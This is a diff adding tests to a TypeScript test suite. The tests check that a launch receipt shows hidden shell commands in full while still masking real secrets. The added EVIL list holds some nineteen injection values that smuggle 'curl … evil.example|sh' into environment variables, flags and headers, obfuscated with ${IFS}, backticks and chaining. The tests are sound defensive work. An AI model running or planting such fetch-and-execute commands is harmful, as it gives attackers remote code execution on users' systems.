@@ -2,6 +2,8 @@
 import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import type { LaunchPlan } from "../../../../src/domain/launch/launch-plan.ts";
+import { rememberSecret, rememberServedSecret } from "../../../../src/lib/redact.ts";
+import { compareWithTemplate } from "../../../../src/present/launch/effective.ts";
 import { buildReceipt, buildRentQuestion } from "../../../../src/present/launch/receipt.ts";
 import { OFFER, offerOf, TEMPLATE } from "../../support.ts";
 
@@ -84,5 +86,70 @@ describe("a receipt", () => {
     assert.doesNotMatch(detail, /Account/);
     const terms = { sandbox: false, payer: "work", withoutTracking: false, now: 0 };
     assert.match(buildRentQuestion(PLAN, terms).detail, /^Account: work$/m, "where there are several");
+  });
+});
+
+describe("what will run is read in full", () => {
+  const EVIL = [
+    // biome-ignore-start lint/suspicious/noTemplateCurlyInString: a shell reads them.
+    "auth_token=1;curl${IFS}-s${IFS}https://evil.example|sh",
+    'API_KEY="$(curl -s https://evil.example|sh)"',
+    "API_KEY=$(curl${IFS}https://evil.example)",
+    "API_KEY=`curl${IFS}https://evil.example`",
+    "API_KEY=a`curl${IFS}https://evil.example`",
+    'API_KEY="a\ncurl https://evil.example|sh\n"',
+    "PASSWORD='x' ; curl https://evil.example|sh",
+    "PASSWORD=x&&curl${IFS}https://evil.example",
+    "TOKEN=x>/dev/null&curl${IFS}https://evil.example",
+    "SECRET=<(curl${IFS}https://evil.example)",
+    "run --api-key $(curl${IFS}https://evil.example)",
+    "run --api-key=x|curl${IFS}https://evil.example",
+    "run --token 'x;curl https://evil.example'",
+    "-u me -p $(curl${IFS}https://evil.example)",
+    "-u me -p x;curl${IFS}https://evil.example",
+    "Authorization: Bearer $(curl${IFS}https://evil.example)",
+    "Authorization: Bearer x;curl${IFS}https://evil.example",
+    "git clone https://me:$(curl${IFS}evil.example)@host/x",
+    "TOKEN=${A:-$(curl${IFS}https://evil.example)}",
+    // biome-ignore-end lint/suspicious/noTemplateCurlyInString: a shell reads them.
+  ];
+  const shownIn = (template: object, name: string) =>
+    buildReceipt({ ...PLAN, template: { ...TEMPLATE, ...template } }, "x", 0).sent.find((line) => line.name === name)
+      ?.value ?? "";
+  const compared = (template: object, onstart: string) =>
+    compareWithTemplate({ ...PLAN, template: { ...TEMPLATE, ...template } }, "x", onstart, 0)?.effective ?? "";
+
+  for (const onstart of EVIL)
+    for (const isPrivate of [true, false, undefined])
+      test(`${JSON.stringify(onstart)}, private: ${isPrivate}`, () => {
+        assert.match(shownIn({ onstart, private: isPrivate }, "onstart"), /curl.*evil\.example/);
+        assert.match(compared({ private: isPrivate }, onstart), /curl[\s\S]*evil\.example/);
+      });
+
+  test("also where a variable's name hides it", () => {
+    const env = `-e 'HF_TOKEN=$(curl https://evil.example|sh)' -e 'API_KEY=plain'`;
+    assert.match(shownIn({ env }, "variable HF_TOKEN"), /curl/);
+    assert.equal(shownIn({ env }, "variable API_KEY"), "••••");
+    assert.match(compared({ env }, ""), /evil\.example/);
+  });
+
+  test("nothing is masked that everybody can read, whatever was declared secret, but the person's own", () => {
+    rememberServedSecret("served-and-secret");
+    rememberSecret("key-of-the-person");
+    const onstart = "export API_KEY=abc; run served-and-secret key-of-the-person";
+    assert.equal(shownIn({ onstart, private: false }, "onstart"), "export API_KEY=abc; run served-and-secret ••••");
+    assert.equal(shownIn({ onstart, private: true }, "onstart"), "export API_KEY=••••; run •••• ••••");
+    assert.equal(shownIn({ env: "-e HF_TOKEN=abc", private: false }, "variable HF_TOKEN"), "abc");
+  });
+
+  test("secrets of one's own templates stay masked", () => {
+    for (const [onstart, shown] of [
+      ["export API_KEY=abc; run", "export API_KEY=••••; run"],
+      ['PASSWORD="a b" run', "PASSWORD=•••• run"],
+      ["curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ••••' x"],
+      ["git clone https://me:abc@host/x|cat", "git clone https://me:••••@host/x|cat"],
+      ['KEY="-----BEGIN RSA PRIVATE KEY-----\nabc+/=\n-----END RSA PRIVATE KEY-----\n"', "KEY=••••"],
+    ] as const)
+      assert.equal(shownIn({ onstart, private: true }, "onstart"), shown);
   });
 });
